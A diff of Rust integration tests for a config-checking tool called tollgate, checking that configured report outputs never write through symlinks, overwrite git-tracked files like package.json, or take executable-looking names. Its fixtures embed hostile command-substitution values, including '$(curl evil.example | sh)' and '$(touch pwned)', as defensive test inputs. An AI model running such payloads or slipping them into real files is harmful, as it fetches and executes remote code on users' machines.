@@ -146,25 +146,27 @@ fn config_output_never_goes_through_a_symlink() {
     let s = site();
     write(&s.root, "cm.yaml", CONFIGMAP);
     symlink(&s.outside, s.root.join("reports")).unwrap();
-    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.txt]\n");
+    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.json]\n");
     refused(&tollgate(&s.root, &["check"]), &[".tollgate.yaml:1:10", "reports is a symbolic link"]);
     fs::remove_file(s.root.join("reports")).unwrap();
 
     fs::create_dir(s.root.join("reports")).unwrap();
-    let victim = s.outside.join("victim.sh");
-    symlink(&victim, s.root.join("reports/r.txt")).unwrap();
-    refused(&tollgate(&s.root, &["check"]), &["`output`: reports/r.txt: not written: it is a symbolic link"]);
+    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.json]\nexclude: [\"reports/**\"]\n");
+    let victim = s.outside.join("victim.json");
+    symlink(&victim, s.root.join("reports/r.json")).unwrap();
+    refused(&tollgate(&s.root, &["check"]), &["`output`: reports/r.json: not written: it is a symbolic link"]);
     assert!(!victim.exists(), "written through a dangling link");
-    fs::write(&victim, "#!/bin/sh\necho mine\n").unwrap();
+    fs::write(&victim, "{\"mine\": true}\n").unwrap();
     refused(&tollgate(&s.root, &["check"]), &["it is a symbolic link"]);
-    assert_eq!(fs::read_to_string(&victim).unwrap(), "#!/bin/sh\necho mine\n");
+    assert_eq!(fs::read_to_string(&victim).unwrap(), "{\"mine\": true}\n");
 
-    // A regular file is replaced by a new one: its exec bit does not carry over.
-    fs::remove_file(s.root.join("reports/r.txt")).unwrap();
-    write(&s.root, "reports/r.txt", "#!/bin/sh\n");
-    fs::set_permissions(s.root.join("reports/r.txt"), fs::Permissions::from_mode(0o755)).unwrap();
+    // A regular file (untracked: a previous report) is replaced by a new one: its exec bit does
+    // not carry over.
+    fs::remove_file(s.root.join("reports/r.json")).unwrap();
+    write(&s.root, "reports/r.json", "#!/bin/sh\n");
+    fs::set_permissions(s.root.join("reports/r.json"), fs::Permissions::from_mode(0o755)).unwrap();
     tollgate(&s.root, &["check"]).expect_code(0);
-    let report = s.root.join("reports/r.txt");
+    let report = s.root.join("reports/r.json");
     assert!(fs::read_to_string(&report).unwrap().contains("\"version\": 1"));
     assert_eq!(fs::metadata(&report).unwrap().permissions().mode() & 0o111, 0);
 }
@@ -566,6 +568,102 @@ fn lfs_pointers_block_unless_allowed() {
     tollgate(&s.root, &["parse", "big.yaml"]).expect_code(1);
     write(&s.root, ".tollgate.yaml", "lfs-pointers: maybe\n");
     refused(&tollgate(&s.root, &["check"]), &[".tollgate.yaml:1:1: `lfs-pointers` must be `allow` or `block`"]);
+}
+
+/// `output:` in the repository's config never replaces a file git tracks (in the index, `HEAD`
+/// or the commit checked, under any letter case): `json=package.json` used to overwrite the
+/// committed `package.json` (its `scripts` then run by `npm test`) with report text carrying the
+/// manifest's `$(...)`, and in `--rev` and `--staged` mode to clobber the user's local edits.
+/// Every mode refuses it, exit 2 naming the line, the file unchanged; `-o` stays free.
+#[test]
+fn config_output_never_replaces_a_tracked_file() {
+    let s = site();
+    let package = "{\"scripts\": {\"test\": \"make test\"}}\n";
+    write(&s.root, "package.json", package);
+    write(&s.root, "docs/notes.md", "# notes\n");
+    write(&s.root, "x.yaml", "apiVersion: v1\nkind: \"$(curl evil.example | sh)\"\nmetadata: {name: a}\n");
+    write(&s.root, ".tollgate.yaml", "output: [\"json=package.json\"]\n");
+    commit_all(&s.root, "base");
+    // The user's local edit to a tracked file is not the report's to overwrite either.
+    write(&s.root, "docs/notes.md", "# notes\nunsaved local edit\n");
+    for mode in [&["check"][..], &["check", "--rev", "HEAD"], &["check", "--staged"]] {
+        let run = tollgate(&s.root, mode);
+        refused(&run, &[".tollgate.yaml:1:10: `output`: package.json: not written: git tracks it (in the index)"]);
+        assert_eq!(fs::read_to_string(s.root.join("package.json")).unwrap(), package, "{mode:?}");
+    }
+    for (config, path, where_) in [
+        ("output: [\"json=PACKAGE.JSON\"]\n", "PACKAGE.JSON", "in the index"),
+        ("output: [markdown=docs/notes.md]\n", "docs/notes.md", "in the index"),
+        ("output: [markdown=Docs/Notes.MD]\n", "Docs/Notes.MD", "in the index"),
+    ] {
+        write(&s.root, ".tollgate.yaml", config);
+        let run = tollgate(&s.root, &["check"]);
+        refused(&run, &[&format!("`output`: {path}: not written: git tracks it ({where_})")]);
+    }
+    assert_eq!(fs::read_to_string(s.root.join("docs/notes.md")).unwrap(), "# notes\nunsaved local edit\n");
+    // Only staged (not yet committed), or removed from the index but still in HEAD: tracked too.
+    write(&s.root, "staged.json", "{}\n");
+    git(&s.root, &["add", "staged.json"]);
+    write(&s.root, ".tollgate.yaml", "output: [json=staged.json]\n");
+    refused(&tollgate(&s.root, &["check", "x.yaml"]), &["staged.json: not written: git tracks it (in the index)"]);
+    git(&s.root, &["rm", "-q", "--cached", "package.json"]);
+    write(&s.root, ".tollgate.yaml", "output: [json=package.json]\n");
+    refused(&tollgate(&s.root, &["check", "x.yaml"]), &["package.json: not written: git tracks it (in HEAD)"]);
+    assert_eq!(fs::read_to_string(s.root.join("package.json")).unwrap(), package);
+
+    // An untracked report path is written (the previous report replaced), and the command line
+    // may name any file.
+    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.json]\nexclude: [\"reports/**\"]\n");
+    tollgate(&s.root, &["check", "x.yaml"]).expect_code(0);
+    tollgate(&s.root, &["check", "x.yaml"]).expect_code(0);
+    assert!(fs::read_to_string(s.root.join("reports/r.json")).unwrap().contains("\"version\": 1"));
+    tollgate(&s.root, &["check", "x.yaml", "--config", "/dev/null", "-o", "json=package.json"]).expect_code(0);
+    assert!(fs::read_to_string(s.root.join("package.json")).unwrap().contains("\"version\": 1"));
+}
+
+/// A report file named in the repository's config has a name that fits its format, so it cannot
+/// stand in for a `Makefile`, an `.envrc`, a script or a tool's config that runs commands, even
+/// where git tracks nothing (a new file, `--rev` of a commit without it).
+#[test]
+fn config_output_name_fits_its_format() {
+    let s = site();
+    write(&s.root, "x.yaml", "apiVersion: v1\nkind: \"$(touch pwned)\"\nmetadata: {name: a}\n");
+    write(&s.root, ".tollgate.yaml", "exclude: [\"out/**\"]\nschemas: false\n");
+    commit_all(&s.root, "base");
+    for (entry, want) in [
+        ("github=Makefile", "a `github` report from the config file must be named *.txt or *.log"),
+        ("human=.envrc", "a `human` report from the config file must be named *.txt or *.log"),
+        ("github=ci/deploy.sh", "must be named *.txt or *.log"),
+        ("json=.txt", "must be named *.json"),
+        ("json=out/.json", "must be named *.json"),
+        ("markdown=out/r.json", "a `markdown` report from the config file must be named *.md or *.markdown"),
+        ("sarif=out/r.json", "a `sarif` report from the config file must be named *.sarif or *.sarif.json"),
+        ("junit=out/r.html", "a `junit` report from the config file must be named *.xml"),
+    ] {
+        write(&s.root, ".tollgate.yaml", format!("exclude: [\"out/**\"]\noutput: [\"{entry}\"]\nschemas: false\n"));
+        // `--staged` reads the staged config.
+        git(&s.root, &["add", ".tollgate.yaml"]);
+        let path = entry.split_once('=').unwrap().1;
+        for mode in [&["check"][..], &["check", "--staged"]] {
+            let run = tollgate(&s.root, mode);
+            refused(&run, &[&format!(".tollgate.yaml:2:10: `output`: {path}: not written: "), want]);
+        }
+        assert!(!s.root.join(path).exists(), "{entry}");
+    }
+    let good = "[json=out/r.json, sarif=out/r.sarif, sarif=out/r.sarif.json, junit=out/r.xml, markdown=out/r.md, \
+                markdown=out/r.markdown, github=out/r.txt, human=out/r.log, json=out/UPPER.JSON]";
+    write(&s.root, ".tollgate.yaml", format!("exclude: [\"out/**\"]\noutput: {good}\nschemas: false\n"));
+    tollgate(&s.root, &["check"]).expect_code(0);
+    let mut written = entries(&s.root.join("out"));
+    written.sort();
+    assert_eq!(
+        written,
+        ["UPPER.JSON", "r.json", "r.log", "r.markdown", "r.md", "r.sarif", "r.sarif.json", "r.txt", "r.xml"]
+    );
+    assert!(!s.root.join("pwned").exists());
+    // The command line names any file it likes.
+    tollgate(&s.root, &["check", "--config", "/dev/null", "--no-schemas", "-o", "github=Makefile"]).expect_code(0);
+    assert!(s.root.join("Makefile").is_file());
 }
 
 /// A policy that reads `path` with `parse_config_file` and reports what it got or why not.
